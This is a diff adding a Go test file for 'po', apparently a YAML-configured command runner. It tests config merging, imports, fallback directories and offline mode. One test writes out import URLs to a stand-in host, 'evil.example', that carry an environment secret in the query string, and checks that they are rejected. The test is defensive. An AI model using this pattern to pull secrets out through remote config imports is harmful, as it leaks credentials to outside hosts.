@@ -0,0 +1,883 @@
+package main
+
+import (
+	"bytes"
+	"context"
+	"fmt"
+	"os"
+	"path/filepath"
+	"sort"
+	"strings"
+	"testing"
+)
+
+func writeTestFile(t *testing.T, path string, content string) {
+	t.Helper()
+
+	if err := os.WriteFile(path, []byte(content), 0644); err != nil {
+		t.Fatal(err)
+	}
+}
+
+// loadTestConfigs loads a user and a project config, either of which can
+// be empty, along with any other files in the project, and merges them as
+// po would.
+func loadTestConfigs(t *testing.T, user string, project string, files map[string]string) *Config {
+	t.Helper()
+	root := t.TempDir()
+
+	if user != "" {
+		if err := os.MkdirAll(filepath.Join(root, "config", "po"), 0700); err != nil {
+			t.Fatal(err)
+		}
+		writeTestFile(t, filepath.Join(root, "config", "po", configFileName), user)
+	}
+
+	if err := os.Mkdir(filepath.Join(root, "project"), 0700); err != nil {
+		t.Fatal(err)
+	}
+
+	if project != "" {
+		writeTestFile(t, filepath.Join(root, "project", configFileName), project)
+	}
+
+	for name, content := range files {
+		writeTestFile(t, filepath.Join(root, "project", name), content)
+	}
+
+	t.Setenv("XDG_CONFIG_HOME", filepath.Join(root, "config"))
+	t.Chdir(filepath.Join(root, "project"))
+	tempCacheDir(t)
+
+	for _, name := range []string{poHomeEnvVar, poPathEnvVar, poConfigFileEnvVar, poProjectFileEnvVar} {
+		t.Setenv(name, "")
+	}
+
+	config, err := loadAllConfigs(context.Background(), nil, true)
+
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	return config
+}
+
+func TestMergeStrategiesAcrossLayers(t *testing.T) {
+	base := `
+commands:
+  deploy:
+    args:
+      - {var: env, desc: Environment}
+      - {var: region, desc: Region}
+    flags:
+      force: {type: bool, desc: Force}
+      dry: {type: bool}
+    script: echo deploy
+`
+	override := `
+commands:
+  deploy:
+    args_merge: %s
+    flags_merge: %s
+    %s
+    flags:
+      force: {desc: Really force}
+      verbose: {type: bool}
+`
+	withArgs := "args: [{var: env, desc: Target}]"
+
+	layers := []struct {
+		name  string
+		build func(override string) (user, project string, files map[string]string)
+	}{
+		{"project over user", func(override string) (string, string, map[string]string) {
+			return base, override, nil
+		}},
+		{"import over project", func(override string) (string, string, map[string]string) {
+			return "", base + "imports:\n  - file: shared.yml\n", map[string]string{"shared.yml": override}
+		}},
+	}
+
+	argCases := []struct {
+		merge string
+		args  string
+		descs []string
+	}{
+		{`""`, withArgs, []string{"Target"}},
+		{argsMergeReplace, withArgs, []string{"Target"}},
+		{argsMergeByIndex, withArgs, []string{"Target", "Region"}},
+		{`""`, "", []string{"Environment", "Region"}},
+		{argsMergeReplace, "", nil},
+	}
+
+	flagCases := []struct {
+		merge string
+		names []string
+	}{
+		{`""`, []string{"dry", "force", "verbose"}},
+		{flagsMergeReplace, []string{"force", "verbose"}},
+	}
+
+	for _, layer := range layers {
+		for _, argCase := range argCases {
+			for _, flagCase := range flagCases {
+				name := fmt.Sprintf("%s/args %s %q/flags %s", layer.name, argCase.merge, argCase.args, flagCase.merge)
+
+				t.Run(name, func(t *testing.T) {
+					user, project, files := layer.build(fmt.Sprintf(override, argCase.merge, flagCase.merge, argCase.args))
+					deploy := loadTestConfigs(t, user, project, files).Commands["deploy"]
+
+					var descs []string
+
+					for _, arg := range deploy.Args {
+						descs = append(descs, arg.Desc)
+					}
+
+					if fmt.Sprint(descs) != fmt.Sprint(argCase.descs) {
+						t.Errorf("expected args %v, got %v", argCase.descs, descs)
+					}
+
+					var names []string
+
+					for name := range deploy.Flags {
+						names = append(names, name)
+					}
+
+					sort.Strings(names)
+
+					if fmt.Sprint(names) != fmt.Sprint(flagCase.names) {
+						t.Errorf("expected flags %v, got %v", flagCase.names, names)
+					}
+
+					if force := deploy.Flags["force"]; force.Desc != "Really force" {
+						t.Errorf("expected the override's description of force, got %q", force.Desc)
+					}
+				})
+			}
+		}
+	}
+}
+
+// runTestCommand runs po with a config, and returns what it printed.
+func runTestCommand(t *testing.T, config *Config, args ...string) string {
+	t.Helper()
+	root := newRootCommand()
+
+	if err := addCommands(root, config, nil); err != nil {
+		t.Fatal(err)
+	}
+
+	var out bytes.Buffer
+	root.SetOut(&out)
+	root.SetArgs(args)
+
+	if err := root.Execute(); err != nil {
+		t.Fatal(err)
+	}
+
+	return out.String()
+}
+
+// clearHome unsets HOME and the XDG directories, as in a minimal container,
+// and gives po a temporary directory of its own.
+func clearHome(t *testing.T) string {
+	t.Helper()
+
+	for _, name := range []string{"HOME", "XDG_CONFIG_HOME", "XDG_CACHE_HOME", "XDG_STATE_HOME", "XDG_DATA_HOME"} {
+		t.Setenv(name, "")
+	}
+
+	tmp := t.TempDir()
+	t.Setenv("TMPDIR", tmp)
+	return filepath.Join(tmp, fmt.Sprintf("po-%d", os.Getuid()))
+}
+
+func TestNoHomeSkipsUserConfig(t *testing.T) {
+	clearHome(t)
+
+	if dir := userConfigDir(); dir != "" {
+		t.Errorf("expected no user config dir, got %s", dir)
+	}
+
+	if _, err := userConfigPath(); err != errNoUserConfigDir {
+		t.Errorf("expected errNoUserConfigDir, got %v", err)
+	}
+}
+
+func TestNoHomeUsesFallbackDir(t *testing.T) {
+	fallback := clearHome(t)
+	cache, err := cacheRootDir()
+
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	if cache != filepath.Join(fallback, "cache") {
+		t.Errorf("expected the cache to be in %s, got %s", fallback, cache)
+	}
+
+	if state := userStateDir(); state != filepath.Join(fallback, "state") {
+		t.Errorf("expected the state to be in %s, got %s", fallback, state)
+	}
+
+	info, err := os.Lstat(fallback)
+
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	if mode := info.Mode(); !mode.IsDir() || mode.Perm() != 0700 {
+		t.Errorf("expected a directory with mode 0700, got %v", mode)
+	}
+}
+
+// loadTestImports loads a config along with its imports, from files in a
+// temporary directory.
+func loadTestImports(t *testing.T, files map[string]string, links map[string]string) (*Config, error) {
+	t.Helper()
+	dir := t.TempDir()
+
+	for name, content := range files {
+		path := filepath.Join(dir, name)
+
+		if err := os.MkdirAll(filepath.Dir(path), 0700); err != nil {
+			t.Fatal(err)
+		}
+
+		writeTestFile(t, path, content)
+	}
+
+	for name, target := range links {
+		if err := os.Symlink(target, filepath.Join(dir, name)); err != nil {
+			t.Fatal(err)
+		}
+	}
+
+	path := filepath.Join(dir, configFileName)
+	config, err := readConfigFile(path)
+
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	return config, loadAllImports(context.Background(), config, path)
+}
+
+func TestImportCyclesAreFoundByPath(t *testing.T) {
+	for _, test := range []struct {
+		name  string
+		files map[string]string
+		links map[string]string
+	}{
+		{"dot dot", map[string]string{
+			configFileName: "imports:\n  - file: lib/a.yml\n",
+			"lib/a.yml":    "imports:\n  - file: ../lib/../po.yml\n",
+		}, nil},
+		{"dot", map[string]string{
+			configFileName: "imports:\n  - file: ./a.yml\n",
+			"a.yml":        "imports:\n  - file: ./po.yml\n",
+		}, nil},
+		{"symlink", map[string]string{
+			configFileName: "imports:\n  - file: lib/a.yml\n",
+			"lib/a.yml":    "imports:\n  - file: root.yml\n",
+		}, map[string]string{"lib/root.yml": "../po.yml"}},
+	} {
+		t.Run(test.name, func(t *testing.T) {
+			if _, err := loadTestImports(t, test.files, test.links); err == nil || !strings.Contains(err.Error(), "cyclic") {
+				t.Errorf("expected a cyclic dependency, got %v", err)
+			}
+		})
+	}
+}
+
+func TestImportsOfTheSameFileAreMergedOnce(t *testing.T) {
+	config, err := loadTestImports(t, map[string]string{
+		configFileName: `
+imports:
+  - file: shared.yml
+  - file: ./lib/../shared.yml
+  - file: linked.yml
+commands:
+  hello:
+    script: echo hello
+`,
+		"shared.yml": `
+commands:
+  hello:
+    examples_merge: append
+    examples:
+      - cmd: po hello
+`,
+		"lib/.keep": "",
+	}, map[string]string{"linked.yml": "shared.yml"})
+
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	if examples := config.Commands["hello"].Examples; len(examples) != 1 {
+		t.Errorf("expected shared.yml to be merged once, got %d examples", len(examples))
+	}
+}
+
+func TestResolveImportExpandsEnvInLocalImports(t *testing.T) {
+	t.Setenv("PO_TEST_HOST", "example.com")
+
+	parents := []Import{{File: "/project/po.yml"}}
+	imp, err := resolveImport(Import{Url: "https://${PO_TEST_HOST}/po.yml"}, parents)
+
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	if imp.Url != "https://example.com/po.yml" {
+		t.Errorf("expected the variable to be expanded, got %s", imp.Url)
+	}
+}
+
+func TestResolveImportRejectsEnvInRemoteImports(t *testing.T) {
+	t.Setenv("PO_TEST_SECRET", "hunter2")
+
+	parents := []Import{{File: "/project/po.yml"}, {Url: "https://example.com/po.yml"}}
+
+	for _, imp := range []Import{
+		{Url: "https://evil.example/?k=${PO_TEST_SECRET}"},
+		{Url: "https://evil.example/?k=$PO_TEST_SECRET"},
+		{File: "${PO_TEST_SECRET}.yml"},
+	} {
+		resolved, err := resolveImport(imp, parents)
+
+		if err == nil {
+			t.Errorf("expected %+v to be rejected, got %+v", imp, resolved)
+		} else if strings.Contains(err.Error(), "hunter2") {
+			t.Errorf("expected the error not to contain the secret: %v", err)
+		}
+	}
+}
+
+func TestResolveImportKeepsPlainRemoteImports(t *testing.T) {
+	parents := []Import{{File: "/project/po.yml"}, {Url: "https://example.com/team/po.yml"}}
+	imp, err := resolveImport(Import{File: "common.yml"}, parents)
+
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	if imp.Url != "https://example.com/team/common.yml" {
+		t.Errorf("expected the import to be relative to its parent, got %s", imp.Url)
+	}
+}
+
+func TestMakeFallbackDirRejectsUnsafeDirs(t *testing.T) {
+	fallback := clearHome(t)
+	other := t.TempDir()
+
+	if err := os.Symlink(other, fallback); err != nil {
+		t.Fatal(err)
+	}
+
+	if err := makeFallbackDir(fallback); err == nil || !strings.Contains(err.Error(), "symbolic link") {
+		t.Errorf("expected a symlink to be rejected, got %v", err)
+	}
+
+	if err := os.Remove(fallback); err != nil {
+		t.Fatal(err)
+	}
+
+	if err := os.Mkdir(fallback, 0777); err != nil {
+		t.Fatal(err)
+	}
+
+	if err := os.Chmod(fallback, 0777); err != nil {
+		t.Fatal(err)
+	}
+
+	if err := makeFallbackDir(fallback); err == nil || !strings.Contains(err.Error(), "other users") {
+		t.Errorf("expected a directory other users can write to be rejected, got %v", err)
+	}
+
+	if err := os.Chmod(fallback, 0700); err != nil {
+		t.Fatal(err)
+	}
+
+	if err := makeFallbackDir(fallback); err != nil {
+		t.Errorf("expected the user's own directory to be used, got %v", err)
+	}
+}
+
+func TestMergeTakesScriptsFromOneLayer(t *testing.T) {
+	a := Command{Script: "echo a", ScriptLinux: "echo a linux"}
+	a.Merge(&Command{Script: "echo b"})
+
+	if script := a.PlatformScript("linux"); script != "echo b" {
+		t.Errorf("expected the higher layer's script to be used, got %q", script)
+	}
+
+	a = Command{Script: "echo a", ScriptLinux: "echo a linux"}
+	a.Merge(&Command{ScriptDarwin: "echo b darwin"})
+
+	if script := a.PlatformScript("linux"); script != "" {
+		t.Errorf("expected no script on linux, got %q", script)
+	}
+
+	a = Command{Script: "echo a"}
+	a.Merge(&Command{Short: "b"})
+
+	if script := a.PlatformScript("linux"); script != "echo a" {
+		t.Errorf("expected a layer without scripts to keep the script, got %q", script)
+	}
+}
+
+func TestDryRunPrintsShellOptions(t *testing.T) {
+	config := mustParseConfig(t, `
+shell_options: ["-e", "-u"]
+prelude: "log() { echo $*; }"
+commands:
+  hello:
+    script: log hello
+  python:
+    exec: python3
+    script: print("hello")
+`)
+
+	out := runTestCommand(t, config, "hello", "--dry-run")
+
+	if !strings.HasPrefix(out, "# shell options: -e -u\n") {
+		t.Errorf("expected the shell options to be printed, got %q", out)
+	}
+
+	if !strings.Contains(out, "log() { echo $*; }\nlog hello") {
+		t.Errorf("expected the prelude to be printed, got %q", out)
+	}
+
+	out = runTestCommand(t, config, "python", "--dry-run")
+
+	if strings.Contains(out, "shell options") || strings.Contains(out, "log()") {
+		t.Errorf("expected a command with its own exec to get neither, got %q", out)
+	}
+}
+
+func TestScriptEnvLeavesOutPoFlags(t *testing.T) {
+	config := mustParseConfig(t, `
+commands:
+  hello:
+    flags:
+      name:
+        type: string
+    script: echo $name
+`)
+
+	envFormat = envFormatText
+	t.Cleanup(func() { envFormat = "" })
+
+	out := runTestCommand(t, config, "hello", "--name=world", "--dry-run")
+
+	if !strings.Contains(out, "name=world\n") {
+		t.Errorf("expected the command's flag in the environment, got %q", out)
+	}
+
+	if strings.Contains(out, "dry-run") {
+		t.Errorf("expected po's own flags to be left out of the environment, got %q", out)
+	}
+}
+
+func TestSingleCommandRunsCheckEveryCommand(t *testing.T) {
+	for _, flag := range []string{
+		"{type: string, short: C}",
+		"{type: string, explicit_false: true}",
+		"{type: float}",
+	} {
+		config := mustParseConfig(t, `
+commands:
+  good:
+    script: echo good
+  bad:
+    commands:
+      sub:
+        flags:
+          x: `+flag+`
+        script: echo bad
+`)
+
+		allErr := buildCommandsFromConfig(config, newRootCommand(), nil)
+		oneErr := buildCommandsFromConfig(config, newRootCommand(), []string{"good"})
+
+		if allErr == nil || oneErr == nil || allErr.Error() != oneErr.Error() {
+			t.Errorf("expected %s to fail in the same way, got %v and %v", flag, allErr, oneErr)
+		}
+	}
+}
+
+// largeConfig is a config with as many commands as a large set of imports
+// might have, each with flags, arguments and a subcommand.
+func largeConfig(b *testing.B, size int) *Config {
+	var yml strings.Builder
+	yml.WriteString("commands:\n")
+
+	for i := 0; i < size; i++ {
+		fmt.Fprintf(&yml, `  cmd%d:
+    short: Command %d
+    args:
+      - var: target
+      - var: rest
+        max: 3
+    flags:
+      verbose: {type: bool, short: v}
+      count: {type: int, default: "1"}
+      mode: {type: string, choices: [a, b, c]}
+    script: echo $target
+    commands:
+      sub:
+        flags:
+          force: {type: bool, default: "true"}
+        script: echo sub
+`, i, i)
+	}
+
+	return mustParseConfig(b, yml.String())
+}
+
+func BenchmarkBuildCommands(b *testing.B) {
+	config := largeConfig(b, 150)
+
+	for _, bench := range []struct {
+		name string
+		args []string
+	}{
+		{"all", nil},
+		{"one", []string{"cmd7", "x"}},
+	} {
+		b.Run(bench.name, func(b *testing.B) {
+			b.ReportAllocs()
+
+			for i := 0; i < b.N; i++ {
+				if err := buildCommandsFromConfig(config, newRootCommand(), bench.args); err != nil {
+					b.Fatal(err)
+				}
+			}
+		})
+	}
+}
+
+func TestConfigNeeded(t *testing.T) {
+	for _, test := range []struct {
+		args     []string
+		need     configNeed
+		optional bool
+	}{
+		{[]string{"--version"}, noConfig, true},
+		{[]string{"doctor"}, localConfig, true},
+		{[]string{"completion", "bash"}, noConfig, true},
+		{[]string{"cache", "diff"}, fullConfig, true},
+		{[]string{"list"}, fullConfig, true},
+		{[]string{"hello"}, fullConfig, false},
+	} {
+		need, optional := configNeeded(test.args)
+
+		if need != test.need || optional != test.optional {
+			t.Errorf("%v: expected (%v, %v), got (%v, %v)",
+				test.args, test.need, test.optional, need, optional)
+		}
+	}
+}
+
+func TestScopeUserCommands(t *testing.T) {
+	yml := `
+commands:
+  notes:
+    scope: user
+    script: echo notes
+  sync:
+    scope: user
+    script: echo sync
+  everywhere:
+    script: echo everywhere
+`
+	project := mustParseConfig(t, "commands:\n  sync:\n    script: echo project\n")
+
+	user := mustParseConfig(t, yml)
+	shadows, err := scopeUserCommands(user, project, "user.yml", "po.yml", false)
+
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	if len(user.Commands) != 1 || len(shadows) != 0 {
+		t.Errorf("expected only the global command without --user, got %v", user.CommandNames())
+	}
+
+	user = mustParseConfig(t, yml)
+	shadows, err = scopeUserCommands(user, project, "user.yml", "po.yml", true)
+
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	if len(user.Commands) != 2 || len(shadows) != 1 || shadows[0].Name != "sync" {
+		t.Errorf("expected the project's sync to shadow the user's with --user, got %v and %v",
+			user.CommandNames(), shadows)
+	}
+}
+
+func TestCacheDirEnvIsRelativeToInvocationDir(t *testing.T) {
+	dir := t.TempDir()
+	t.Setenv(cacheDirEnvVar, "cache")
+
+	saved := [...]string{invocationDir, customCacheDir}
+	invocationDir = dir
+	t.Cleanup(func() { invocationDir, customCacheDir = saved[0], saved[1] })
+
+	if err := configureCacheDir(&Config{CacheDir: ".po/cache"}); err != nil {
+		t.Fatal(err)
+	}
+
+	if customCacheDir != filepath.Join(dir, "cache") {
+		t.Errorf("expected the cache in %s, got %s", filepath.Join(dir, "cache"), customCacheDir)
+	}
+}
+
+func TestMergeCanUnhideCommands(t *testing.T) {
+	config := mustParseConfig(t, "commands:\n  hello:\n    hidden: true\n    script: echo hello\n")
+	config.Merge(mustParseConfig(t, "commands:\n  hello:\n    hidden: false\n"))
+
+	if hello := config.Commands["hello"]; hello.Hidden() {
+		t.Errorf("expected hidden: false in a later layer to unhide the command")
+	}
+
+	config.Merge(mustParseConfig(t, "commands:\n  hello:\n    short: Says hello\n"))
+
+	if hello := config.Commands["hello"]; hello.Hidden() {
+		t.Errorf("expected a layer without hidden to leave it as it was")
+	}
+}
+
+func TestMergeCanMakeCommandsNonInteractive(t *testing.T) {
+	config := mustParseConfig(t, "commands:\n  login:\n    interactive: true\n    script: ./login\n")
+	config.Merge(mustParseConfig(t, "commands:\n  login:\n    interactive: false\n"))
+
+	if login := config.Commands["login"]; login.Interactive() {
+		t.Errorf("expected interactive: false in a later layer to override interactive: true")
+	}
+}
+
+func TestMergeCanUnskipGlobalHooks(t *testing.T) {
+	config := mustParseConfig(t, `
+before_each: echo before
+commands:
+  hello:
+    skip_global_hooks: true
+    script: echo hello
+`)
+	config.Merge(mustParseConfig(t, "commands:\n  hello:\n    skip_global_hooks: false\n"))
+	hello := config.Commands["hello"]
+
+	if hello.SkipGlobalHooks() || newGlobalHooks(config, &hello) == nil {
+		t.Errorf("expected skip_global_hooks: false in a later layer to run the hooks again")
+	}
+}
+
+func TestMergeCanMakeCommandsConcrete(t *testing.T) {
+	config := mustParseConfig(t, "commands:\n  deploy:\n    abstract: true\n    script: ./deploy\n")
+	config.Merge(mustParseConfig(t, "commands:\n  deploy:\n    abstract: false\n"))
+
+	if deploy := config.Commands["deploy"]; deploy.Abstract() {
+		t.Errorf("expected abstract: false in a later layer to override abstract: true")
+	}
+}
+
+func TestMergeCanUnmarkFinal(t *testing.T) {
+	config := mustParseConfig(t, "commands:\n  scan:\n    final: true\n    script: ./scan.sh\n")
+	override := mustParseConfig(t, "commands:\n  scan:\n    final: false\n")
+
+	scan, unmarked := config.Commands["scan"], override.Commands["scan"]
+	scan.Merge(&unmarked)
+
+	if scan.Final() {
+		t.Errorf("expected final: false to override final: true")
+	}
+
+	config.Merge(override)
+
+	if len(config.finalViolations) != 1 || !config.finalViolations[0].Unmarked {
+		t.Errorf("expected a later config unmarking a final command to be a violation, got %v",
+			config.finalViolations)
+	}
+}
+
+func TestMergeCanTurnOffExplicitFalse(t *testing.T) {
+	config := mustParseConfig(t, `
+commands:
+  build:
+    flags:
+      cache:
+        type: bool
+        default: "true"
+        explicit_false: true
+    script: ./build
+`)
+	config.Merge(mustParseConfig(t, "commands:\n  build:\n    flags:\n      cache:\n        explicit_false: false\n"))
+
+	if cache := config.Commands["build"].Flags["cache"]; cache.ExplicitFalse() {
+		t.Errorf("expected explicit_false: false in a later layer to override explicit_false: true")
+	}
+}
+
+func TestMergeReplacesScriptWithScriptFile(t *testing.T) {
+	config := mustParseConfig(t, "commands:\n  deploy:\n    script: ./old-deploy\n    script_linux: ./old-deploy-linux\n")
+	config.Merge(mustParseConfig(t, "commands:\n  deploy:\n    script_file: deploy.sh\n"))
+	deploy := config.Commands["deploy"]
+
+	if deploy.ScriptFile != "deploy.sh" || deploy.Script != "" || deploy.ScriptLinux != "" {
+		t.Errorf("expected script_file in a later layer to replace every script, got %+v", deploy)
+	}
+}
+
+func TestArgCaseBelongsToItsConfig(t *testing.T) {
+	yml := "commands:\n  greet:\n    args:\n      - var: name\n    script: echo $name\n"
+	lower := mustParseConfig(t, "arg_case: lower\n"+yml)
+	upper := mustParseConfig(t, yml)
+
+	if err := addCommands(newRootCommand(), lower, nil); err != nil {
+		t.Fatal(err)
+	}
+
+	if err := addCommands(newRootCommand(), upper, nil); err != nil {
+		t.Fatal(err)
+	}
+
+	for _, test := range []struct {
+		config *Config
+		usage  string
+	}{
+		{lower, "greet name"},
+		{upper, "greet NAME"},
+	} {
+		greet := test.config.Commands["greet"]
+
+		if usage := formatUsage("greet", &greet); usage != test.usage {
+			t.Errorf("expected %q, got %q", test.usage, usage)
+		}
+	}
+}
+
+func TestMissingScriptFileNamesFullCommand(t *testing.T) {
+	path := filepath.Join(t.TempDir(), "po.yml")
+
+	writeTestFile(t, path, `
+commands:
+  db:
+    commands:
+      migrate:
+        script_file: scripts/migrate.sh
+`)
+
+	_, err := readConfigFile(path)
+
+	if err == nil || !strings.Contains(err.Error(), "command 'db migrate'") {
+		t.Errorf("expected the error to name db migrate, got %v", err)
+	}
+}
+
+func TestConfigEnvNamesTheConfigsLoaded(t *testing.T) {
+	for _, test := range []struct {
+		name    string
+		user    bool
+		project bool
+	}{
+		{"neither", false, false},
+		{"user only", true, false},
+		{"project only", false, true},
+		{"both", true, true},
+	} {
+		t.Run(test.name, func(t *testing.T) {
+			root, err := filepath.EvalSymlinks(t.TempDir())
+
+			if err != nil {
+				t.Fatal(err)
+			}
+
+			userPath := filepath.Join(root, "config", "po", configFileName)
+			projectPath := filepath.Join(root, "project", configFileName)
+
+			for _, path := range []string{userPath, projectPath} {
+				if err := os.MkdirAll(filepath.Dir(path), 0700); err != nil {
+					t.Fatal(err)
+				}
+			}
+
+			if test.user {
+				writeTestFile(t, userPath, "commands:\n  notes:\n    script: echo notes\n")
+			} else {
+				userPath = ""
+			}
+
+			if test.project {
+				writeTestFile(t, projectPath, "commands:\n  build:\n    script: echo build\n")
+			} else {
+				projectPath = ""
+			}
+
+			t.Setenv("XDG_CONFIG_HOME", filepath.Join(root, "config"))
+			t.Chdir(filepath.Join(root, "project"))
+			tempCacheDir(t)
+
+			// Values from a po that ran this one must not be taken as the
+			// configs this one found.
+			for _, name := range []string{poHomeEnvVar, poPathEnvVar, poConfigFileEnvVar, poProjectFileEnvVar} {
+				t.Setenv(name, "/inherited")
+			}
+
+			if _, err := loadAllConfigs(context.Background(), nil, false); err != nil {
+				t.Fatal(err)
+			}
+
+			for _, env := range []struct {
+				dirVar, fileVar, path string
+			}{
+				{poHomeEnvVar, poConfigFileEnvVar, userPath},
+				{poPathEnvVar, poProjectFileEnvVar, projectPath},
+			} {
+				dir, dirSet := os.LookupEnv(env.dirVar)
+				file, fileSet := os.LookupEnv(env.fileVar)
+
+				if env.path == "" && (dirSet || fileSet) {
+					t.Errorf("expected %s and %s to be unset, got %q and %q", env.dirVar, env.fileVar, dir, file)
+				} else if env.path != "" && (dir != filepath.Dir(env.path) || file != env.path) {
+					t.Errorf("expected %s and %s to name %s, got %q and %q", env.dirVar, env.fileVar, env.path, dir, file)
+				}
+			}
+		})
+	}
+}
+
+func TestOfflineMode(t *testing.T) {
+	t.Setenv(offlineEnvVar, "")
+	args := os.Args
+	t.Cleanup(func() { os.Args, offlineFlagValue = args, false })
+
+	for _, test := range []struct {
+		args    []string
+		offline bool
+	}{
+		{[]string{"--offline", "build"}, true},
+		{[]string{"-C", "app", "--offline", "build"}, true},
+		{[]string{"build", "--offline"}, false},
+		{[]string{"--", "--offline"}, false},
+	} {
+		os.Args = append([]string{"po"}, test.args...)
+
+		if offline := offlineMode(); offline != test.offline {
+			t.Errorf("%v: expected offline mode to be %v", test.args, test.offline)
+		}
+	}
+
+	os.Args = []string{"po"}
+
+	if err := newRootCommand().ParseFlags([]string{"--offline"}); err != nil {
+		t.Fatal(err)
+	}
+
+	if !offlineMode() {
+		t.Errorf("expected a parsed --offline to turn on offline mode")
+	}
+}